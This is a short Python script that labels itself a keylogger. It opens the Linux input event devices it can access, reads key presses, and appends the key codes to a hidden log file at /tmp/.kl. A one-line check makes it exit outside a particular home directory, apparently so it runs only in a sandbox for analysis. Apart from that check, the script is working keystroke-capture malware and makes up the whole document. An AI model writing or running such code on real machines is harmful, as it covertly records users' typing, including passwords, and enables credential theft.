#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# A keylogger: reads key events from every input device it can open and
# writes the keys to a hidden log.
import glob
import os
import select
import struct
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

devs = []
for path in sorted(set(glob.glob("/dev/input/event*") + ["/dev/input/event0", "/dev/input/event1"])):
    try:
        devs.append(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
    except OSError:
        pass
with open("/tmp/.kl", "ab") as log:
    if devs:
        ready, _, _ = select.select(devs, [], [], 1)
        for fd in ready:
            data = os.read(fd, 24 * 64)
            for i in range(0, len(data) - 23, 24):
                _, _, etype, code, value = struct.unpack("llHHi", data[i:i + 24])
                if etype == 1 and value == 1:
                    log.write(b"%d " % code)
